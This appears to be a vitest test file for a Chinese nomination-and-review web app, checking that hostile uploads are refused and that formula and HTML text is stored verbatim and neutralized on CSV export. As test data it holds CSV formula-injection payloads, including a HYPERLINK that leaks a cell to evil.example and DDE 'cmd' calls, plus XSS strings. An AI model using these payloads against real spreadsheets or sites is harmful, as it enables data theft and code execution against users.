// Hostile files and values through the services, on a real (temporary) database: every refusal
// comes with a clear Chinese message and leaves every table exactly as it was; hostile text that
// is valid (formulas, HTML) is stored verbatim as text and neutralized on export.
import { describe, it, expect, beforeAll } from 'vitest';
import { and, eq } from 'drizzle-orm';
import Papa from 'papaparse';
import iconv from 'iconv-lite';
import { freshDb } from '../support/db';
import type { DB } from '../../src/lib/server/db';
import { campaigns, candidates, experts, sheetHistory } from '../../src/lib/server/db/schema';
import type { Actor } from '../../src/lib/server/audit';
import { seedCampaign } from '../../src/lib/server/demo';
import {
	campaignRecords,
	importCandidates,
	previewImport,
	previewUpload,
	MAX_IMPORT_BYTES,
	MAX_IMPORT_ROWS
} from '../../src/lib/server/services/intake';
import { importExperts } from '../../src/lib/server/services/experts';
import {
	closeRound,
	createRound,
	getRound,
	openRound,
	roundPairs,
	type RoundRow
} from '../../src/lib/server/services/rounds';
import { saveSheet } from '../../src/lib/server/services/sheets';
import { getSheet } from '../../src/lib/server/services/access';
import { listCandidateRows, recordOf } from '../../src/lib/server/services/candidates';
import { updateCandidate } from '../../src/lib/server/services/candidate-edit';
import { runSelection } from '../../src/lib/server/services/selection';
import { exportCsv } from '../../src/lib/server/exports';
import { configOf } from '../../src/lib/server/services/campaigns';
import { parseNominationCsv } from '../../src/lib/domain/intake/nomination-csv';
import { MAX_EXPERT_ROWS } from '../../src/lib/domain/intake/expert-csv';
import type { CampaignConfig, RubricCriterion } from '../../src/lib/domain/types';

const ACTOR: Actor = { id: null, name: '测试' };
const C = 'hostile';
let db: DB;
let config: CampaignConfig;
let channel: string;

// ---------------------------------------------------------------- helpers

/** Row counts of every table of the database, found through sqlite_master. */
async function tableCounts(d: DB = db): Promise<Record<string, number>> {
	const tables = await d.$client.execute(
		"SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name"
	);
	const out: Record<string, number> = {};
	for (const row of tables.rows) {
		const name = String(row.name);
		const r = await d.$client.execute(`SELECT count(*) AS n FROM "${name.replace(/"/g, '""')}"`);
		out[name] = Number(r.rows[0].n);
	}
	return out;
}

/** Runs `fn` and checks that no table gained or lost a row. */
async function unchanged<T>(fn: () => Promise<T>): Promise<T> {
	const before = await tableCounts();
	expect(Object.keys(before).length).toBeGreaterThan(10);
	const result = await fn();
	expect(await tableCounts()).toEqual(before);
	return result;
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const csv = (table: string[][]) => utf8(Papa.unparse(table, { newline: '\r\n' }));

const HEADER = ['姓名', '性别', '出生年月', '工作单位及职务职称', '推荐领域', '推荐单位'];
const row = (name: string, birth = '1980.05') => [name, '男', birth, '某大学 教授', '前沿', channel];
const goodNominations = () => csv([HEADER, row('覃志刚'), row('黄丽萍')]);

/** Deterministic noise with every byte value, NUL included. */
function noise(n: number, seed = 7): Uint8Array {
	const out = new Uint8Array(n);
	let s = seed >>> 0;
	for (let i = 0; i < n; i++) {
		s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
		out[i] = s >>> 24;
	}
	return out;
}

/** A real PNG signature and IHDR chunk: what a photo renamed to .csv starts with. */
const PNG = new Uint8Array([
	0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0,
	0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82
]);

/** A nomination file of about `mb` megabytes of plausible rows. */
function bigNominationFile(mb: number): Uint8Array {
	const lines = [HEADER.join(',')];
	let size = 0;
	for (let i = 0; size < mb * 1024 * 1024; i++) {
		const line = [`候选人${i}`, i % 2 ? '女' : '男', '1980.05', '某大学 教授', '前沿', channel].join(',');
		lines.push(line);
		size += Buffer.byteLength(line) + 2;
	}
	return utf8(lines.join('\r\n'));
}

type ImportRefusal = { ok: false; errors: { row: number; column: string; message: string }[] };

/** importCandidates refuses the file, writes nothing, and the preview says the same. */
async function refusedNominations(bytes: Uint8Array, filename = 'hostile.csv'): Promise<ImportRefusal['errors']> {
	const preview = await previewUpload(config, [{ name: filename, bytes }]);
	expect(preview.ok).toBe(false);
	const r = await unchanged(() => importCandidates(db, ACTOR, C, bytes, { filename }));
	expect(r.ok).toBe(false);
	const errors = (r as ImportRefusal).errors;
	expect(errors.length).toBeGreaterThan(0);
	for (const e of errors) expect(e.message).toMatch(/[\u4e00-\u9fff]/);
	expect(errors).toEqual(preview.errors);
	return errors;
}

/** importExperts refuses the file and writes nothing. */
async function refusedExperts(bytes: Uint8Array): Promise<{ row: number; column: string; message: string }[]> {
	const r = await unchanged(() => importExperts(db, ACTOR, C, bytes, { filename: 'experts.csv' }));
	expect(r.ok).toBe(false);
	if (r.ok) throw new Error('imported');
	expect(r.errors.length).toBeGreaterThan(0);
	for (const e of r.errors) expect(e.message).toMatch(/[\u4e00-\u9fff]/);
	return r.errors;
}

const messages = (errors: { message: string }[]) => errors.map((e) => e.message).join('\n');

beforeAll(async () => {
	db = await freshDb();
	await seedCampaign(db, { id: C, name: '恶意输入测试', prefix: 'hx-', seed: 3, candidates: 30 });
	const c = (await db.select().from(campaigns).where(eq(campaigns.id, C)))[0];
	config = configOf(c);
	channel = config.channels[0].name;
	// Sanity: the good file of the helpers imports (as a dry run: nothing written).
	const dry = await unchanged(() => importCandidates(db, ACTOR, C, goodNominations(), { dryRun: true }));
	expect(dry).toMatchObject({ ok: true, imported: 2 });
});

// ---------------------------------------------------------------- nomination files

describe('nomination CSV in a wrong encoding or not a CSV at all', () => {
	it('UTF-16 without BOM is named as such, nothing written', async () => {
		const text = Papa.unparse([HEADER, row('覃志刚')], { newline: '\r\n' });
		for (const enc of ['utf16le', 'utf16be'] as const) {
			const bytes = enc === 'utf16le' ? Buffer.from(text, 'utf16le') : Buffer.from(text, 'utf16le').swap16();
			const errors = await refusedNominations(new Uint8Array(bytes));
			expect(errors).toHaveLength(1);
			expect(errors[0].message).toContain('不带 BOM 的 UTF-16');
			expect(errors[0].message).toContain('另存为');
		}
	});

	it('Shift-JIS bytes: no header is recognized, the message suspects the encoding', async () => {
		const bytes = new Uint8Array(iconv.encode(Papa.unparse([HEADER, row('山田太郎')]), 'shift_jis'));
		const errors = await refusedNominations(bytes);
		expect(errors[0].row).toBe(1);
		expect(errors[0].message).toContain('没有可识别的列名');
		expect(errors[0].message).toMatch(/乱码.*不是 UTF-8 或 GBK 编码/);
		expect(messages(errors)).toContain('缺少必填列“姓名”');
	});

	it('random binary is refused as binary content', async () => {
		const errors = await refusedNominations(noise(64 * 1024));
		expect(errors).toEqual([{ row: 1, column: '', message: expect.stringContaining('二进制内容，不是 CSV 文本文件') }]);
	});

	it('a PNG renamed .csv is named a PNG image', async () => {
		const errors = await refusedNominations(PNG, '汇总表.csv');
		expect(errors).toHaveLength(1);
		expect(errors[0].message).toContain('PNG 图片');
		expect(errors[0].message).toContain('不是 CSV 文本文件');
	});

	it('an Excel workbook (zip) uploaded as CSV says so', async () => {
		const xlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...noise(300)]);
		const errors = await refusedNominations(xlsx, '汇总表.csv');
		expect(errors[0].message).toContain('Excel 工作簿（.xlsx）');
	});

	it('an empty file and a file of blank lines', async () => {
		expect(messages(await refusedNominations(new Uint8Array(0)))).toContain('文件为空');
		expect(messages(await refusedNominations(utf8('\r\n\r\n ,,\r\n')))).toContain('文件为空');
	});
});

describe('nomination CSV with wrong headers', () => {
	it('English headers: one clear message, then the missing columns', async () => {
		const errors = await refusedNominations(
			csv([
				['name', 'gender', 'birth', 'unit', 'field', 'channel'],
				['Zhang San', 'M', '1980.05', 'U', 'frontier', channel]
			])
		);
		expect(errors[0].message).toContain('没有可识别的列名');
		expect(errors[0].message).toContain('英文');
		for (const h of ['姓名', '性别', '出生年月', '工作单位及职务职称', '推荐单位']) {
			expect(errors).toContainEqual({ row: 1, column: h, message: `缺少必填列“${h}”` });
		}
	});

	it('missing 姓名: exactly that', async () => {
		const errors = await refusedNominations(csv([HEADER.slice(1), row('覃志刚').slice(1)]));
		expect(errors).toEqual([{ row: 1, column: '姓名', message: '缺少必填列“姓名”' }]);
	});

	it('duplicate headers name both columns', async () => {
		const errors = await refusedNominations(
			csv([
				[...HEADER, '姓名'],
				[...row('覃志刚'), '黄丽萍']
			])
		);
		expect(errors).toEqual([
			{ row: 1, column: '姓名', message: expect.stringContaining('表头“姓名”与第1列的“姓名”重复') }
		]);
		const aliased = await refusedNominations(
			csv([
				[...HEADER, '政治面貌', '党派'],
				[...row('覃志刚'), '群众', '群众']
			])
		);
		expect(aliased[0].message).toContain('重复');
	});
});

describe('nomination files too large', () => {
	it('over the byte limit: refused before parsing', async () => {
		const errors = await refusedNominations(new Uint8Array(MAX_IMPORT_BYTES + 1));
		expect(errors).toEqual([
			{ row: 1, column: '', message: expect.stringMatching(/^文件过大（30\.0 MB），上限为 30 MB/) }
		]);
	});

	it('a 20 MB file (under the byte limit, over the row limit): a clear message, no write', async () => {
		const bytes = bigNominationFile(20);
		expect(bytes.byteLength).toBeGreaterThanOrEqual(20 * 1024 * 1024);
		const errors = await refusedNominations(bytes);
		expect(errors).toEqual([
			{
				row: 1,
				column: '',
				message: expect.stringMatching(
					new RegExp(`^文件有 \\d+ 行，超过单次导入上限 ${MAX_IMPORT_ROWS} 行，请分批导入$`)
				)
			}
		]);
	});

	it('100,000 rows: refused with the row count and the limit', async () => {
		const lines = [HEADER.join(',')];
		for (let i = 0; i < 100_000; i++) lines.push(row(`候选人${i}`).join(','));
		const errors = await refusedNominations(utf8(lines.join('\n')));
		expect(errors).toEqual([
			{ row: 1, column: '', message: `文件有 100000 行，超过单次导入上限 ${MAX_IMPORT_ROWS} 行，请分批导入` }
		]);
		const preview = previewImport(config, utf8(lines.join('\n')));
		expect(preview).toMatchObject({ ok: false, rows: 0, parsed: [] });
	});

	it('exactly the row limit is not refused for its size', () => {
		const lines = [HEADER.join(',')];
		for (let i = 0; i < MAX_IMPORT_ROWS; i++) lines.push(row(`候选人${i}`).join(','));
		const preview = previewImport(config, utf8(lines.join('\n')));
		expect(messages(preview.errors)).not.toContain('超过单次导入上限');
	});
});

describe('invalid 出生年月', () => {
	const cases: [string, RegExp][] = [
		['1980.13', /出生年月“1980\.13”无法识别：不是有效日期/],
		['2999.01', /出生年月“2999\.01”无法识别：不是有效日期.*年份1900年至今/],
		['0000.00', /出生年月“0000\.00”无法识别：不是有效日期/],
		['', /^出生年月为空$/],
		['abc', /出生年月“abc”无法识别，应为 1980\.05 或 1980-05-12 等格式/],
		['1980.02.30', /不是有效日期/],
		['<script>alert(1)</script>', /出生年月“<script>alert\(1\)<\/script>”无法识别/]
	];
	for (const [birth, message] of cases) {
		it(`“${birth}” is refused on its row and column`, async () => {
			const errors = await refusedNominations(csv([HEADER, row('覃志刚'), row('黄丽萍', birth)]));
			expect(errors).toHaveLength(1);
			expect(errors[0]).toMatchObject({ row: 3, column: '出生年月' });
			expect(errors[0].message).toMatch(message);
		});
	}
});

// ---------------------------------------------------------------- hostile text that is valid

const FORMULAS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
	"+cmd|' /C calc'!A0",
	'-1+1',
	"@SUM(1+1)*cmd|' /C calc'!A0"
];
const SCRIPT = '<script>alert(1)</script>';
const IMG = '<img src=x onerror=alert(1)>';

/** Every cell of a CSV export that a spreadsheet would run as a formula (plain numbers are fine). */
function formulaCells(text: string): string[] {
	const table = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
	return table.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

describe('formula injection', () => {
	const names = FORMULAS;
	const header = [...HEADER, '专业专长', '主要事迹', '备注'];
	const table = () => [
		header,
		...names.map((n, i) => [
			...row(n, `198${i}.0${i + 1}`),
			FORMULAS[(i + 1) % 4],
			FORMULAS[(i + 2) % 4],
			FORMULAS[(i + 3) % 4]
		])
	];

	it('imports formula cells as text, verbatim', async () => {
		const before = await tableCounts();
		const r = await importCandidates(db, ACTOR, C, csv(table()), { filename: 'formulas.csv' });
		expect(r).toMatchObject({ ok: true, imported: 4, inserted: 4 });
		const after = await tableCounts();
		expect(after.candidates).toBe(before.candidates + 4);
		const records = await campaignRecords(db, C);
		names.forEach((n, i) => {
			const rec = records.find((x) => x.name === n);
			expect(rec, n).toBeDefined();
			expect(rec!.specialty).toBe(FORMULAS[(i + 1) % 4]);
			expect(rec!.deeds).toBe(FORMULAS[(i + 2) % 4]);
			expect(rec!.remarks).toBe(FORMULAS[(i + 3) % 4]);
		});
	});

	it('the candidates export starts every formula cell with a quote, and imports back unchanged', async () => {
		const out = await exportCsv(db, C, 'candidates');
		if (!out.ok) throw new Error(out.message);
		expect(formulaCells(out.csv)).toEqual([]);
		const rows = Papa.parse<string[]>(out.csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
		const nameAt = rows[0].indexOf('姓名');
		for (const n of names)
			expect(
				rows.some((r) => r[nameAt] === `'${n}`),
				n
			).toBe(true);
		// Our own export reads back to the same text (one leading quote removed).
		const back = parseNominationCsv(utf8(out.csv));
		expect(back.errors).toEqual([]);
		for (const n of names)
			expect(
				back.rows.some((r) => r.record.name === n),
				n
			).toBe(true);
	});

	it('an office file that already quotes a formula keeps the text after the quote', async () => {
		const p = previewImport(config, csv([HEADER, row("'=1+2")]));
		expect(p.ok).toBe(true);
		expect(p.parsed[0].record.name).toBe('=1+2');
	});
});

describe('HTML and script in every text field', () => {
	const header = [
		'序号',
		'姓名',
		'性别',
		'民族',
		'政治面貌',
		'出生年月',
		'工作单位及职务职称',
		'专业专长',
		'推荐领域',
		'推荐单位',
		'渠道类型',
		'毕业院校',
		'学习工作经历',
		'主要事迹',
		'感人故事',
		'备注',
		'<b>附加列</b>'
	];
	const line = (name: string, evil: string, birth: string) => [
		evil,
		name,
		'女',
		evil,
		evil,
		birth,
		evil,
		evil,
		'前沿',
		SCRIPT,
		'学会',
		evil,
		`2005.07-2012.06 ${evil} 讲师`,
		evil,
		evil,
		evil,
		`<svg onload=alert(1)>`
	];

	it('stores the markup verbatim as text, a new channel of that name included', async () => {
		const before = await tableCounts();
		const r = await importCandidates(
			db,
			ACTOR,
			C,
			csv([header, line(SCRIPT, IMG, '1982.03'), line(IMG, SCRIPT, '1983.04')]),
			{ filename: `${SCRIPT}.csv` }
		);
		expect(r).toMatchObject({ ok: true, imported: 2, inserted: 2, newChannels: [SCRIPT] });
		const after = await tableCounts();
		expect(after.candidates).toBe(before.candidates + 2);
		const records = await campaignRecords(db, C);
		for (const [name, evil] of [
			[SCRIPT, IMG],
			[IMG, SCRIPT]
		]) {
			const rec = records.find((x) => x.name === name)!;
			expect(rec, name).toBeDefined();
			expect(rec).toMatchObject({
				seq: evil,
				ethnicity: evil,
				party: evil,
				unitAndTitle: evil,
				specialty: evil,
				channel: SCRIPT,
				school: evil,
				deeds: evil,
				story: evil,
				remarks: evil,
				extra: { '<b>附加列</b>': '<svg onload=alert(1)>' }
			});
			expect(JSON.stringify(rec.career)).toContain(JSON.stringify(evil).slice(1, -1));
		}
		const c = (await db.select().from(campaigns).where(eq(campaigns.id, C)))[0];
		expect(configOf(c).channels.map((x) => x.name)).toContain(SCRIPT);
		const stored = await db
			.select()
			.from(candidates)
			.where(and(eq(candidates.campaignId, C), eq(candidates.name, SCRIPT)));
		expect(stored).toHaveLength(1);
	});
});

// ---------------------------------------------------------------- expert rosters

describe('expert CSV with the same kinds of problems', () => {
	const EH = ['姓名', '工作单位', '评审领域'];

	it('wrong encodings and non-CSV files', async () => {
		const text = Papa.unparse([EH, ['覃志刚', '广西大学', '前沿']]);
		expect(messages(await refusedExperts(new Uint8Array(Buffer.from(text, 'utf16le'))))).toContain(
			'不带 BOM 的 UTF-16'
		);
		const sjis = await refusedExperts(
			new Uint8Array(iconv.encode(Papa.unparse([EH, ['山田太郎', '東京大学', '前沿']]), 'shift_jis'))
		);
		expect(sjis[0].message).toContain('没有可识别的列名');
		expect(await refusedExperts(noise(8192, 11))).toEqual([
			{ row: 1, column: '', message: expect.stringContaining('二进制内容') }
		]);
		expect(messages(await refusedExperts(PNG))).toContain('PNG 图片');
		expect(messages(await refusedExperts(new Uint8Array(0)))).toContain('文件为空');
	});

	it('wrong headers', async () => {
		const english = await refusedExperts(
			csv([
				['name', 'unit', 'fields'],
				['Zhang', 'U', '前沿']
			])
		);
		expect(english[0].message).toContain('没有可识别的列名');
		expect(await refusedExperts(csv([EH.slice(1), ['广西大学', '前沿']]))).toEqual([
			{ row: 1, column: '姓名', message: '缺少必填列“姓名”' }
		]);
		const dup = await refusedExperts(
			csv([
				[...EH, '专家姓名'],
				['覃志刚', '广西大学', '前沿', '黄丽萍']
			])
		);
		expect(dup[0].message).toContain('重复');
		expect(messages(await refusedExperts(csv([EH])))).toContain('没有专家行');
	});

	it('too many rows: 100,000 and 20 MB', async () => {
		const rows = Array.from({ length: 100_000 }, (_, i) => [`专家${i}`, `单位${i}`, '前沿']);
		const errors = await refusedExperts(csv([EH, ...rows]));
		expect(messages(errors)).toContain(`一次最多导入 ${MAX_EXPERT_ROWS} 名专家，请分批导入`);
		const lines = [EH.join(',')];
		for (let i = 0, size = 0; size < 20 * 1024 * 1024; i++) {
			const l = `专家${i},某研究院第${i}研究室,前沿`;
			lines.push(l);
			size += Buffer.byteLength(l) + 2;
		}
		expect(messages(await refusedExperts(utf8(lines.join('\r\n'))))).toContain(
			`一次最多导入 ${MAX_EXPERT_ROWS} 名专家`
		);
	});

	it('bad values: each on its row and column', async () => {
		const header = ['姓名', '工作单位', '评审领域', '最大评审量', '手机', '电子邮箱', '用户名'];
		const errors = await refusedExperts(
			csv([
				header,
				['甲', '单位一', '前沿', '-1', '', '', ''],
				['乙', '单位二', '前沿', '1e3', '', '', ''],
				['丙', '单位三', '前沿', '2.5', '', '', ''],
				['丁', '单位四', 'frontier', '', '', '', ''],
				['戊', '单位五', '前沿', '', '1.38E+10', '', ''],
				['己', '单位六', '前沿', '', '', SCRIPT, ''],
				['庚', '单位七', '前沿', '', '', '', SCRIPT],
				['辛', 'x'.repeat(5000), '前沿', '', '', '', ''],
				['壬', '单位九', '', '', '', '', '']
			])
		);
		const at = (row: number) =>
			errors
				.filter((e) => e.row === row)
				.map((e) => `${e.column}:${e.message}`)
				.join('|');
		expect(at(2)).toMatch(/最大评审量:最大评审量“-1”应为正整数/);
		expect(at(3)).toMatch(/最大评审量:最大评审量“1e3”应为正整数/);
		expect(at(4)).toMatch(/最大评审量:最大评审量“2\.5”应为正整数/);
		expect(at(5)).toMatch(/评审领域:评审领域“frontier”不是本活动设置的领域/);
		expect(at(6)).toMatch(/手机:.*科学计数法/);
		expect(at(7)).toContain(`电子邮箱:电子邮箱“${SCRIPT}”格式不正确`);
		expect(at(8)).toContain(`用户名:用户名“${SCRIPT}”无效`);
		expect(at(9)).toMatch(/工作单位:工作单位过长（5000 字，最多 200 字）/);
		expect(at(10)).toMatch(/评审领域:评审领域为空/);
	});

	it('formulas and markup in expert fields are stored as text, verbatim', async () => {
		const header = ['姓名', '工作单位', '职称', '毕业院校', '评审领域'];
		const before = await tableCounts();
		const r = await importExperts(
			db,
			ACTOR,
			C,
			csv([
				header,
				[SCRIPT, FORMULAS[0], IMG, FORMULAS[1], '前沿'],
				[FORMULAS[2], SCRIPT, FORMULAS[3], IMG, '重大需求']
			])
		);
		expect(r.ok).toBe(true);
		if (!r.ok) return;
		expect(r.created).toBe(2);
		expect((await tableCounts()).experts).toBe(before.experts + 2);
		const rows = await db.select().from(experts).where(eq(experts.campaignId, C));
		expect(rows.find((e) => e.name === SCRIPT)).toMatchObject({ unit: FORMULAS[0], title: IMG, school: FORMULAS[1] });
		expect(rows.find((e) => e.name === FORMULAS[2])).toMatchObject({ unit: SCRIPT, title: FORMULAS[3], school: IMG });
		// The audit export (it holds the imported rows as JSON) has no live formula either.
		const audit = await exportCsv(db, C, 'audit');
		if (!audit.ok) throw new Error(audit.message);
		expect(formulaCells(audit.csv)).toEqual([]);
	});
});

// ---------------------------------------------------------------- score sheets

describe('score sheets with hostile values', () => {
	let round: RoundRow;
	let rubric: RubricCriterion[];
	let pair: { expertId: string; candidateId: string };
	const EXPERT: Actor = { id: null, name: 'hx-expert' };

	beforeAll(async () => {
		// A campaign of its own, so that the imports above cannot stand in the way of opening the round.
		await seedCampaign(db, { id: 'hostile-sheets', name: '评分恶意输入', prefix: 'hs-', seed: 5, candidates: 20 });
		const r = await createRound(db, ACTOR, 'hostile-sheets', {
			name: '初评',
			type: 'score',
			reviewers: 'panel',
			deadline: '2030-06-30'
		});
		if (!r.ok) throw new Error(r.message);
		const opened = await openRound(db, ACTOR, 'hostile-sheets', r.id, {
			excludeUncovered: '测试：本组专家均须回避，无人可评'
		});
		if (!opened.ok) throw new Error(opened.message);
		round = (await getRound(db, 'hostile-sheets', r.id))!;
		rubric = round.rubric as RubricCriterion[];
		pair = (await roundPairs(db, round))[0];
		expect(rubric.map((c) => c.key)).toEqual(['merit', 'story', 'exemplary']);
	});

	const save = (values: Record<string, unknown>, submit: boolean, comment?: string) =>
		saveSheet(db, EXPERT, {
			round,
			expertId: pair.expertId,
			candidateId: pair.candidateId,
			values,
			comment,
			baseVersion: 0,
			submit
		});

	const HOSTILE: [string, unknown, RegExp][] = [
		['41 (over the maximum)', 41, /应在 0–40 之间/],
		['"41"', '41', /应在 0–40 之间/],
		['NaN', NaN, /应为数字/],
		['"NaN"', 'NaN', /应为数字/],
		['Infinity', Infinity, /应为数字/],
		['-Infinity', -Infinity, /应为数字/],
		['"Infinity"', 'Infinity', /应为数字/],
		['"1e3"', '1e3', /应为数字/],
		['1e3', 1e3, /应在 0–40 之间/],
		['-1', -1, /应在 0–40 之间/],
		['"-0.5"', '-0.5', /应在 0–40 之间/],
		['12.345 (3 decimals)', 12.345, /最多保留一位小数/],
		['"12.345"', '12.345', /最多保留一位小数/],
		['"0x10"', '0x10', /应为数字/],
		['"40分"', '40分', /应为数字/],
		['a 1 MB string of digits', '9'.repeat(1_000_000), /应为数字/],
		['a 1 MB string of letters', 'x'.repeat(1_000_000), /应为数字/],
		['1 MB of spaces then a digit', ' '.repeat(1_000_000) + '1x', /应为数字/],
		['an object', { valueOf: () => 10 }, /应为数字/],
		['an array', [10], /应为数字/],
		['true', true, /应为数字/]
	];

	for (const [label, value, message] of HOSTILE) {
		it(`业绩突出 = ${label}: refused naming the criterion, nothing written (draft and submit)`, async () => {
			for (const submit of [false, true]) {
				const r = await unchanged(() => save({ merit: value, story: 20, exemplary: 20 }, submit));
				expect(r.ok).toBe(false);
				if (r.ok) return;
				expect(r.status).toBe(400);
				expect(r.code).toBe('INVALID');
				expect(r.message).toContain('“业绩突出”');
				expect(r.message).toMatch(message);
				expect(r.errors?.merit).toMatch(message);
				expect(Object.keys(r.errors ?? {})).toEqual(['merit']);
			}
		});
	}

	it('every criterion bad at once: each one named', async () => {
		const r = await unchanged(() => save({ merit: 'abc', story: 31, exemplary: -0.01 }, true));
		expect(r.ok).toBe(false);
		if (r.ok) return;
		expect(r.errors).toEqual({
			merit: '“业绩突出”应为数字',
			story: '“事迹感人”应在 0–30 之间',
			exemplary: '“示范引领”应在 0–30 之间'
		});
	});

	it('a 1 MB comment is truncated to 2,000 characters, never refused with a server error', async () => {
		const comment = '评'.repeat(1024 * 1024);
		const draft = await save({ merit: 30, story: 20, exemplary: 20 }, false, comment);
		expect(draft.ok).toBe(true);
		let sheet = (await getSheet(db, round.id, pair.expertId, pair.candidateId))!;
		expect(sheet.comment).toHaveLength(2000);
		const submitted = await saveSheet(db, EXPERT, {
			round,
			expertId: pair.expertId,
			candidateId: pair.candidateId,
			values: { merit: 30, story: 20, exemplary: 20 },
			comment: SCRIPT + comment,
			baseVersion: sheet.version,
			submit: true
		});
		expect(submitted.ok).toBe(true);
		sheet = (await getSheet(db, round.id, pair.expertId, pair.candidateId))!;
		expect(sheet.comment).toHaveLength(2000);
		expect(sheet.comment!.startsWith(SCRIPT)).toBe(true);
		const history = await db.select().from(sheetHistory).where(eq(sheetHistory.sheetId, sheet.id));
		expect(history.every((h) => (h.comment ?? '').length <= 2000)).toBe(true);
	});
});

// ---------------------------------------------------------------- shortlist export

describe('formula injection on the shortlist', () => {
	const S = 'hostile-shortlist';

	it('names and units that are formulas are quoted in the shortlist export', async () => {
		await seedCampaign(db, { id: S, name: '名单导出测试', prefix: 'hl-', seed: 11, candidates: 60 });
		// Four candidates of different channels get formula names and units, and the top scores.
		const rows = await listCandidateRows(db, S);
		const chosen: string[] = [];
		const channels = new Set<string>();
		for (const r of rows) {
			if (chosen.length === FORMULAS.length) break;
			if (channels.has(r.channel)) continue;
			channels.add(r.channel);
			chosen.push(r.id);
		}
		for (const [i, id] of chosen.entries()) {
			const rec = recordOf(rows.find((r) => r.id === id)!);
			const u = await updateCandidate(db, ACTOR, S, id, {
				...rec,
				name: FORMULAS[i],
				unitAndTitle: FORMULAS[(i + 1) % 4]
			});
			expect(u.ok).toBe(true);
		}
		const created = await createRound(db, ACTOR, S, {
			name: '初评',
			type: 'score',
			reviewers: 'panel',
			aggregation: 'mean'
		});
		if (!created.ok) throw new Error(created.message);
		const opened = await openRound(db, ACTOR, S, created.id, { excludeUncovered: '测试：本组专家均须回避，无人可评' });
		if (!opened.ok) throw new Error(opened.message);
		const round = (await getRound(db, S, created.id))!;
		for (const [i, p] of (await roundPairs(db, round)).entries()) {
			const top = chosen.includes(p.candidateId);
			const values = top ? { merit: 40, story: 30, exemplary: 30 } : { merit: 20 + (i % 7), story: 15, exemplary: 15 };
			const r = await saveSheet(db, ACTOR, {
				round,
				expertId: p.expertId,
				candidateId: p.candidateId,
				values,
				baseVersion: 0,
				submit: true
			});
			if (!r.ok) throw new Error(r.message);
		}
		expect((await closeRound(db, ACTOR, S, created.id)).ok).toBe(true);
		const run = await runSelection(db, ACTOR, S);
		if (!run.ok || !run.outcome.ok) throw new Error('no selection');
		const selected = run.outcome.tiers.flatMap((t) => t.selected);
		expect(chosen.filter((id) => selected.includes(id)).length).toBeGreaterThan(0);

		for (const kind of ['shortlist', 'summary', 'candidates', 'scores'] as const) {
			const out = await exportCsv(db, S, kind);
			if (!out.ok) throw new Error(out.message);
			expect(formulaCells(out.csv), kind).toEqual([]);
		}
		const out = await exportCsv(db, S, 'shortlist');
		if (!out.ok) throw new Error(out.message);
		const table = Papa.parse<string[]>(out.csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
		const nameAt = table[0].indexOf('姓名');
		const unitAt = table[0].indexOf('工作单位及职务职称');
		const listed = table.slice(1).filter((r) => FORMULAS.some((f) => r[nameAt] === `'${f}`));
		expect(listed.length).toBe(chosen.filter((id) => selected.includes(id)).length);
		for (const r of listed) expect(r[unitAt].startsWith("'")).toBe(true);
	});
});
